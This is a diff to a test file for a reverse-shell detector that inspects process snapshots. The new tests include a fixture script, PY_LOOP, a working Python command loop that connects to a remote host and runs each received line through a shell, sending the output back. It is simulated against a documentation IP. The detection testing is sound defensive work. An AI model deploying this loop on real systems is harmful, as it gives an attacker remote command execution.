@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { classifyFdTarget } from '../../host/procfs/parse-proc.js';
 import type { FdEntry, InetSocket, ProcessInfo, ProcessSnapshot, UnixSocket } from '../../host/procfs/snapshot-types.js';
 import { detectReverseShells } from './detect.js';
+import { memoScriptAnalysis } from './script-program.js';
 
 /** Small builder for hand-made snapshots: fds are given as link targets, like /proc shows them. */
 class Host {
@@ -277,6 +278,62 @@ describe('class 3: interpreters', () => {
     h.proc(1851, 1850, 'sh', ['sh', '-c', 'node-gyp rebuild'], { 0: 'pipe:[85]', 1: 'pipe:[86]', 2: 'pipe:[86]' });
     h.proc(1852, 1850, 'sh', ['sh', '-c', 'sleep 5'], { 0: '/dev/null', 1: 'pipe:[86]', 2: 'pipe:[86]' });
     expect(detectReverseShells(h.snapshot())).toEqual([]);
+  });
+
+  describe('script files (analyzeScript)', () => {
+    const PY_LOOP = [
+      'import socket, subprocess, sys',
+      's = socket.create_connection((sys.argv[1], 9002))',
+      'for line in s.makefile("rb"):',
+      '    r = subprocess.run(line.decode(), shell=True, capture_output=True)',
+      '    s.sendall(r.stdout + r.stderr)',
+    ].join('\n');
+    const NPM_LIKE = "const s = require('net').connect(443, 'registry'); s.write(hello); require('child_process').exec('node-gyp rebuild');";
+    const files: Record<string, string> = { '/opt/w/worker.py': PY_LOOP, 'install.js': NPM_LIKE };
+    const reads: string[] = [];
+    const analyzeScript = memoScriptAnalysis((p, path) => {
+      reads.push(`${p.pid}:${path}`);
+      return files[path] ?? null;
+    });
+
+    it('a command loop running each received command with `sh -c` is class 3, serious with the shell running', () => {
+      const h = init(new Host());
+      const s = h.tcp('198.51.100.5', 9002, 43020);
+      h.proc(1870, 1, 'python3', ['python3', '-u', '/opt/w/worker.py', '198.51.100.5'], { 3: s, 5: 'pipe:[87]' });
+      h.proc(1871, 1870, 'sh', ['/bin/sh', '-c', 'sleep 30; id'], { 0: '/dev/null', 1: 'pipe:[87]', 2: 'pipe:[87]' });
+      const f = detectReverseShells(h.snapshot(), { analyzeScript });
+      expect(f.map((x) => [x.ruleId, x.class, x.level, x.pid, x.holderPid])).toEqual([['revshell.interpreter-script', 3, 'serious', 1871, 1870]]);
+      expect(f[0]?.evidence).toContain('script-reads-connection');
+      // Without the option the engine cannot tell it from npm: nothing.
+      expect(detectReverseShells(h.snapshot())).toEqual([]);
+    });
+
+    it('between commands (no shell child) the same loop is suspicious, and the file is read once per process', () => {
+      const h = init(new Host());
+      const s = h.tcp('198.51.100.5', 9002, 43021);
+      h.proc(1880, 1, 'python3', ['python3', '/opt/w/worker.py'], { 3: s });
+      const before = reads.length;
+      expect(detectReverseShells(h.snapshot(), { analyzeScript }).map((x) => [x.ruleId, x.level, x.pid])).toEqual([['revshell.interpreter-script', 'suspicious', 1880]]);
+      detectReverseShells(h.snapshot(), { analyzeScript });
+      expect(reads.slice(before)).toEqual(['1880:/opt/w/worker.py']);
+    });
+
+    it('a node script that connects and runs `sh -c` but never reads the connection is not a command loop', () => {
+      const h = init(new Host());
+      const s = h.tcp('104.16.0.35', 443, 43022);
+      h.proc(1890, 1, 'node', ['node', 'install.js'], { 3: s, 5: 'pipe:[88]' });
+      h.proc(1891, 1890, 'sh', ['sh', '-c', 'node-gyp rebuild'], { 0: 'pipe:[89]', 1: 'pipe:[88]' });
+      expect(detectReverseShells(h.snapshot(), { analyzeScript })).toEqual([]);
+    });
+
+    it('a listening interpreter is a server whatever its script says', () => {
+      const h = init(new Host());
+      const l = h.tcp('0.0.0.0', 0, 9100, 'LISTEN');
+      const c = h.tcp('192.0.2.9', 51000, 9100);
+      h.proc(1895, 1, 'python3', ['python3', '/opt/w/worker.py'], { 3: l, 4: c });
+      h.proc(1896, 1895, 'sh', ['sh', '-c', 'uptime'], { 0: '/dev/null' });
+      expect(detectReverseShells(h.snapshot(), { analyzeScript })).toEqual([]);
+    });
   });
 
   it('ignores a web app (listening interpreter) running sh -c', () => {
